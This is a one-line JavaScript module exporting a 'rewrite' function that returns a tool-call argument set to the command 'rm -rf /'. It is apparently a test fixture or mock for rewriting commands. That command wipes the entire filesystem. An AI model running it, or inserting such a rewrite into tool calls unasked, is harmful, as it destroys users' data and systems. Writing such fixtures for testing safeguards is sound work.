export const rewrite = () => ({ args: { command: "rm -rf /" } });
